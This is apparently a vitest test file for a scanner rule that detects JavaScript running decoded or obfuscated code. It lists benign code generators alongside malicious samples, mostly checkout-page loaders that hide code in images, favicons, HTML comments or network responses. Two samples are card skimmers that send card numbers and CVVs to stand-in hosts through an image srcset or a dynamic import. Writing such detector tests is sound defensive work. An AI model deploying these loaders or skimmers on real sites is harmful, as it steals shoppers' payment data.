import { describe, expect, test } from 'vitest';
import rule from './decoded-code-eval.js';
import { ruleTable } from '../test/helpers/rule-table.js';
import { pack } from '../test/helpers/packer.js';
import { analyseSource, sha256 } from '../src/analyse/engine/run.js';

ruleTable(rule, {
  valid: [
    { name: 'a template compiler appending constant pieces and the template text before new Function (stays low)', code: "function compile(tpl) { var src = 'var out = [];'; for (var i = 0; i < tpl.parts.length; i++) src += 'out.push(' + JSON.stringify(tpl.parts[i]) + ');'; src += 'return out.join(\"\");'; return new Function('data', src); }" , messageIds: ['dynamic'] },
    { name: 'a string built in a loop from constants and run through .call of a method that is not eval', code: "(function () { var s = ''; for (var i = 0; i < 3; i++) s += 'ab'; var o = { run: function (t) { return t; } }; o.run.call(o, s); })();" },
    { name: 'a packed script that only formats the card field (unpacked, nothing above low)', code: pack("document.getElementById('cc-number').addEventListener('input', function () { this.value = this.value.replace(/\\D/g, '').replace(/(\\d{4})(?=\\d)/g, '$1 '); });") },
    { name: 'a code-split chunk imported by path', code: "import('./chunks/checkout.' + hash + '.js').then(function (m) { m.init(); });" },
    { name: 'bind shim building a wrapper from parameter names (function-bind)', code: "function joiny(arr, j) { var s = ''; for (var i = 0; i < arr.length; i++) { s += arr[i]; if (i + 1 < arr.length) s += j; } return s; } var boundArgs = ['$0', '$1']; var bound = Function('binder', 'return function (' + joiny(boundArgs, ',') + '){ return binder.apply(this,arguments); }')(binder);" },
    { name: 'webpack eval-devtool module with an escaped character in its text', code: "eval(\"{__webpack_require__.r(__webpack_exports__);\\nvar label = 'd\\u00e9j\\u00e0 vu';\\n}\");" },
    "setTimeout(function(){ run(); }, 10);",
    "setTimeout(run, 10);",
    "eval('1 + 1');",
    "var f = new Function('a', 'b', 'return a + b');",
    // near misses: code generators building functions from their own strings (d3-dsv, templates)
    { name: 'd3-dsv: row parser from column names', code: "function objectConverter(columns) { return new Function('d', 'return {' + columns.map(function(name, i) { return JSON.stringify(name) + ': d[' + i + '] || \"\"'; }).join(',') + '}'); }" },
    { name: 'template compiler: replace and join of its own source', code: "function compile(text) { var source = \"__p+='\" + text.replace(/\\n/g, '\\\\n').split('<%').join(\"';\") + \"';\"; return new Function('obj', 'var __p=\"\";with(obj){' + source + '}return __p;'); }" },
    { name: 'global object', code: "var g = Function('return this')();" },
    // markup with inline handlers is analysed, and plain handlers are inventory
    { name: 'template with an inline click handler (old widget markup)', code: "el.innerHTML = '<a href=\"#\" class=\"close\" onclick=\"this.parentNode.style.display=&quot;none&quot;; return false\">x</a>';" },
    { name: 'jQuery button with a print handler', code: "$('<button type=\"button\" onclick=\"window.print()\">Print</button>').appendTo('#receipt');" },
    { name: 'GTM container whose custom HTML tags load the Facebook pixel and Hotjar', code: "var data = { resource: { tags: [{ 'function': '__html', vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003E!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f.fbq=function(){n.callMethod?n.callMethod.apply(n,arguments):n.queue.push(arguments)};n.queue=[];t=b.createElement(e);t.async=!0;t.src=v;s=b.getElementsByTagName(e)[0];s.parentNode.insertBefore(t,s)}(window,document,\\'script\\',\\'https://connect.facebook.net/en_US/fbevents.js\\');fbq(\\'track\\',\\'PageView\\');\\u003C/script\\u003E' }, { 'function': '__html', vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003E(function(h,o,t,j,a,r){h._hjSettings={hjid:1234567,hjsv:6};a=o.getElementsByTagName(\\'head\\')[0];r=o.createElement(\\'script\\');r.async=1;r.src=t+h._hjSettings.hjid+j+h._hjSettings.hjsv;a.appendChild(r);})(window,document,\\'https://static.hotjar.com/c/hotjar-\\',\\'.js?sv=\\');\\u003C/script\\u003E' }] } };" },
    { name: 'javascript:void(0) link', code: "menu.insertAdjacentHTML('beforeend', '<li><a href=\"javascript:void(0)\" data-id=\"' + id + '\">' + label + '</a></li>');" },
    { name: 'Reflect.apply and Function.prototype.call.call forwarding decoded text to a logger, not to code', code: "var m = atob('aGVsbG8='); Reflect.apply(console.log, console, [m]); Function.prototype.call.call(console.info, console, m);" },
    { name: 'a module loader fetching source text and running it as it is (SystemJS style: nothing decoded)', code: "function load(u) { return fetch(u).then(function (r) { return r.text(); }).then(function (t) { return (0, eval)(t + '\\n//# sourceURL=' + u); }); }" },
  ],
  invalid: [
    { name: "code read out of an image's pixels (canvas getImageData, String.fromCharCode appended in a loop) run by Function on checkout pages", code: "var i = new Image(); i.onload = function () { var c = document.createElement('canvas'); c.width = i.width; c.height = i.height; var x = c.getContext('2d'); x.drawImage(i, 0, 0); for (var p = x.getImageData(0, 0, i.width, i.height).data, s = '', k = 0; k < p.length; k++) if (k % 4 != 3) { if (!p[k]) break; s += String.fromCharCode(p[k]); } window['Fun' + 'ction'](s)(); }; /checkout|onepage/i.test(location.pathname) && (i.src = '/media/logo.png');", messageIds: ['decoded'], severity: 'high' },
    { name: 'base64 payload run by eval reached through Reflect.apply', code: "(function (w) { var p = w.atob('dmFyIGk9ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2NjJyk7'); Reflect.apply(w.eval, w, [p]); })(window);", messageIds: ['decoded'] },
    { name: 'base64 payload run by eval reached through Function.prototype.call.call', code: "var p = atob('dmFyIGk9ZG9jdW1lbnQucXVlcnlTZWxlY3RvcignI2NjJyk7'); Function.prototype.call.call(eval, window, p);", messageIds: ['decoded'] },
    { name: 'a base64+XOR decoder put on window with ||, reached through a `window.Function ? window : this` parameter, its output run by new z["Func"+"tion"]', code: "window.__wpx=window.__wpx||function(a,b){var c=atob(a),d=\"\",e=0;for(;e<c.length;e++)d+=String.fromCharCode(c.charCodeAt(e)^b.charCodeAt(e%b.length));return d};(function(z){var s=\"B1ZRbBUEFVhAOQBcH0MNPRhcA05wKQFcEkNMPkUbUlRAYQNMHFVGPk8QX0FCIBhcSllGO01wHFZEKUUQX0RRL1AbGUNXPB4DXhhbYghBEFpTIAgWThUILhlWEB9bZQ==\";try{(new z[\"Func\"+\"tion\"](z.__wpx(s,\"q7#Lm9\")))()}catch(e){}})(window.Function?window:this);", messageIds: ['decoded'] },
    { name: 'a hex string XOR-decoded by a loop in an IIFE, run by eval reached through a joined name and .call (Baka-style loader)', code: "var _$_wcx=[\"3d1b4603086c5d4e1539261f5a575e204c440435181f5846132556535e6e6819570e1e245443133e69531a55113d4c444d222e0d146a1d305e445e65650946404d735155023c38401b0c087f5c5917213b16510c4f731259\",\"Kz4#pQ9!vL\"];(function(a,b){var c=\"\",d=0,k=b.split(\"\").map(function(x){return x.charCodeAt(0)});for(;d<a.length;d+=2)c+=String.fromCharCode(parseInt(a.substr(d,2),16)^k[(d/2)%k.length]);var w=window,r=[\"e\",\"v\",\"a\",\"l\"].join(\"\");w[r].call(w,c)})(_$_wcx[0],_$_wcx[1]);", messageIds: ['decoded'] },
    { name: "Dean Edwards packer: eval(function(p,a,c,k,e,d){…}('…',62,n,'…'.split('|'),0,{})) around a card grabber sending by srcset", code: pack("function val(n) { var e = document.querySelector('[name=\"' + n + '\"]'); return e ? e.value : ''; } document.addEventListener('mousedown', function () { var img = new Image(); img.srcset = 'https:' + '//varien-cdn-static.example/m/' + btoa(val('payment[cc_number]') + ':' + val('payment[cc_cid]')) + '.jpg 1x'; }, true);"), messageIds: ['decoded'], severity: 'low' },
    { name: 'a module imported from a base64 data: URL', code: "if (/checkout/.test(location.pathname)) import('data:text/javascript;base64,' + 'ZmV0Y2goJ2h0dHBzOi8veC5leGFtcGxlLycp').catch(function () {});", messageIds: ['decoded'] },
    { name: 'Function reached as the constructor of a function, atob aliased, chunks reversed', code: "var _p = ['KTE=', 'YWxlcnQo']; var _r = function () { return _p.slice().reverse().join(''); }; var _g = window['a' + 'to' + 'b']; var _F = (function () {}).constructor; _F(_g(_r()))();", messageIds: ['decoded'] },
    { name: "''.constructor.constructor (Function) on decoded code", code: "''.constructor.constructor(atob('YWxlcnQoMSk='))();", messageIds: ['decoded'] },
    { code: "eval(atob('YWxlcnQoMSk='));", messageIds: ['decoded'], severity: 'medium' },
    { code: "new Function(String.fromCharCode(97,108,101,114,116,40,49,41))();", messageIds: ['decoded'] },
    { code: "if (location.href.indexOf('checkout') > -1) eval(atob(payload));", messageIds: ['decoded'], severity: 'high' },
    { code: "var s = document.createElement('script'); s.text = atob('YWxlcnQoMSk='); document.body.appendChild(s);", messageIds: ['decoded'] },
    { name: 'own XOR decoder', code: "function d(s){ var o=''; for (var i=0;i<s.length;i++) o += String.fromCharCode(s.charCodeAt(i) ^ 5); return o; } eval(d(payload));", messageIds: ['decoded'], severity: 'medium' },
    { name: 'decoded then reversed', code: "eval(atob(p).split('').reverse().join(''));", messageIds: ['decoded'], severity: 'medium' },
    { name: "SVG onload handler (Sansec's SVG skimmer) inserted as markup", code: "document.body.insertAdjacentHTML('beforeend', '<svg width=\"1px\" height=\"1px\"><g><path d=\"M0 0\" onload=\"eval(atob(&quot;YWxlcnQoMSk=&quot;))\"></path></g></svg>');", messageIds: ['decoded'] },
    { name: 'image onerror handler in innerHTML', code: "var box = document.createElement('div'); box.innerHTML = '<img src=x onerror=\"new Function(atob(\\'YWxlcnQoMSk=\\'))()\">'; document.body.appendChild(box);", messageIds: ['decoded'] },
    { name: 'jQuery-built image whose onerror decodes code', code: "jQuery('<img src=\"/x.gif\" style=\"display:none\" onerror=\"eval(atob(\\'YWxlcnQoMSk=\\'))\">');", messageIds: ['decoded'] },
    { name: 'javascript: URL in written markup', code: "document.write('<iframe src=\"javascript:eval(atob(%27YWxlcnQoMSk=%27))\"></iframe>');", messageIds: ['decoded'] },
    { name: 'GTM custom HTML tag (vtp_html) whose script decodes code', code: "var data = { resource: { tags: [{ 'function': '__html', once_per_event: true, vtp_html: '\\u003Cscript type=\"text/gtmscript\"\\u003Eif (/checkout/.test(location.pathname)) eval(atob(\\'YWxlcnQoMSk=\\'));\\u003C/script\\u003E', tag_id: 7 }] } };", messageIds: ['decoded'] },
    { name: 'code built with join: low', code: "new Function(parts.join(';'))();", messageIds: ['dynamic'], severity: 'low' },
    { name: 'a loader fetching a missing page and running the base64 code hidden in its HTML comment (404-page loader)', code: "(function () {\n  var p = '/checkout/onepage/' + Math.random().toString(36).slice(2);\n  fetch(p, { credentials: 'omit' }).then(function (r) { return r.text(); }).then(function (t) {\n    var m = t.match(/<!--\\s*([A-Za-z0-9+\\/=]{40,})\\s*-->/);\n    if (m) new Function(atob(m[1]))();\n  });\n})();", messageIds: ['decoded'], severity: 'high' },
    { name: "code read from a favicon's pixels through a canvas and run with indirect eval (steganography loader)", code: "(function () {\n  var img = new Image();\n  img.crossOrigin = 'anonymous';\n  img.onload = function () {\n    var c = document.createElement('canvas'); c.width = img.width; c.height = img.height;\n    var x = c.getContext('2d'); x.drawImage(img, 0, 0);\n    var d = x.getImageData(0, 0, c.width, c.height).data, s = '';\n    for (var i = 0; i < d.length; i += 4) { if (d[i] === 0) break; s += String.fromCharCode(d[i]); }\n    (0, eval)(s);\n  };\n  img.src = '/media/favicon/default/favicon.png';\n})();", messageIds: ['decoded'], severity: 'high' },
    { name: 'code arriving in WebSocket messages, base64-decoded and run (await-free onmessage handler)', code: "var ws = new WebSocket('wss://' + location.host + '/ws'); ws.onmessage = function (e) { Function(decodeURIComponent(escape(atob(e.data))))(); };", messageIds: ['decoded'], severity: 'high' },
    { name: 'an XHR response decoded and run', code: "var x = new XMLHttpRequest(); x.open('GET', '/static/version/robots.txt'); x.onload = function () { eval(atob(x.responseText.split('#')[1])); }; x.send();", messageIds: ['decoded'], severity: 'high' },
    { name: 'a decoded constant run while an unrelated fetch response is parsed (stays medium)', code: "var cfg = atob('dmFyIHggPSAxOw=='); fetch('/api/cart').then(function (r) { return r.json(); }).then(function (j) { render(j); }); eval(cfg + compute());", messageIds: ['decoded'], severity: 'medium' },
  ],
});

describe('code whose decoder input comes from the page', () => {
  // the payload sits in a CSS custom property the script writes, read back with getComputedStyle
  const payload = Buffer.from("document.addEventListener('click',function(){var v=document.querySelector('[autocomplete=\"cc-number\"]').value;import('https://assets.theme-cdn.example/c.'+btoa(v)+'.mjs')});").toString('base64');
  const code = `var st = document.createElement('style'); st.textContent = ':root{--accent:#c00;--map:"${payload}"}'; document.head.appendChild(st);
var m = getComputedStyle(document.documentElement).getPropertyValue('--map').trim().replace(/^"|"$/g, ''); (new Function(atob(m)))();`;
  test("the script's own base64 blobs that decode to code are analysed as its children", () => {
    const r = analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'external' }, { rethrow: true });
    const skim = r.findings.find((f) => f.ruleId === 'skimmer');
    expect(skim?.severity).toBe('critical');
    expect(skim?.childSha256).toBeTruthy();
  });
  test('a base64 image in the same kind of script is not code', () => {
    const img = Buffer.from('\x89PNG\r\n\x1a\n' + 'x'.repeat(200), 'latin1').toString('base64');
    const c2 = `var s = '${img}'; var m = el.dataset.x; (new Function(atob(m)))();`;
    const r = analyseSource({ sha256: sha256(c2), source: c2, url: null, kind: 'external' }, { rethrow: true });
    expect(r.findings.some((f) => f.childSha256)).toBe(false);
  });
});
